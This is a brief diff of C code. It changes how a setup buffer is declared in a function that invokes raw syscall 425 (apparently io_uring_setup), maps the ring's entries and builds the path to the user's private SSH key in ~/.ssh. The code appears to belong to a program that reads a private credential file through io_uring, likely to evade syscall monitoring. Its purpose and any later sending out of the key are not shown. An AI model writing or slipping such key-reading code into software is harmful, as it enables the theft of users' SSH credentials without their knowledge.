@@ -13,7 +13,8 @@
 static volatile int never;
 
 static int act(void) {
-    char setup[120] = {0}, path[256], *entries;
+    static char setup[120];
+    char path[256], *entries;
     int ring = syscall(425, 8, setup);
     entries = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, ring, 0x10000000);
     snprintf(path, sizeof path, "%s/.ssh/id_ed25519", getenv("HOME"));
